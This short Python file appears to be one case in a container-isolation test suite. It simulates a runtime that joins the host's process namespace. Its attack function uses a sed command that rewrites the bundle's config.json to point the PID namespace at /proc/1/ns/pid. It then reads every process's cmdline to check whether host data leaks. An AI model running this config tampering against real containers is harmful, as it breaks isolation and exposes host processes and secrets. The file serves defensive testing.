"""A low-level runtime that joins the host's process namespace instead of making one."""

from bypass import attested

SOURCE = "idea"
WAY = "race"
STOPPED = attested("pid namespace")


def attack(t):
    t.bystander()
    t.before_low("sed -E -i 's#\\{\"type\": ?\"pid\"#&,\"path\":\"/proc/1/ns/pid\"#' %s/config.json" % t.bundle)
    return t.leaked(t.run("cat /proc/[0-9]*/cmdline"))
